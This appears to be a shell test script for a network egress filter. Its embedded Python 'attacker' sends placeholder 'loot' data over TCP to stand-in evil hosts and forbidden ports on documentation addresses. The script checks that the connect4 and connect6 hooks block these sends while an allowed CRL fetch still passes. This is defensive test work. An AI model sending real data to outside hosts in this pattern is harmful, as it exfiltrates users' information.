#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: tries TCP 443 outside the policy's prefixes, other ports inside them, and port 80 of a prefix that has 443 only
# stopped-by: connect4, connect6
# reason: destination, port, port_for_destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443 tcp/80 tcp/22
ALSO_FORBIDDEN='198\.51\.100\.2 (22|80) |2001:db8:a00::2 (22|80) '

attack_by <<'PYTHON'
from attacker import *

for target, port, tag in (
    (EVIL4, 443, "evil4"), (EVIL6, 443, "evil6"), (GOOD4, 22, "ssh4"), (GOOD6, 22, "ssh6"),
    (GOOD4, 80, "http4"), (GOOD6, 80, "http6"),
):
    with attempt(tag):
        sock = tcp(target)
        sock.connect((target, port))
        sock.sendall(loot(tag))
sock = tcp("198.51.100.200")
sock.connect(("198.51.100.200", 80))
sock.sendall(honest("crl"))
PYTHON
works stolen:evil4 stolen:evil6 stolen:ssh4 stolen:ssh6 stolen:http4 stolen:http6
gate_on "$CG" --crl-prefix 198.51.100.200/32
forget # late packets of the first run went to these ports, too
stopped
passes honest:crl
recorded connect4 destination
recorded connect6 destination
recorded connect4 port
recorded connect4 port_for_destination
recorded connect6 port_for_destination
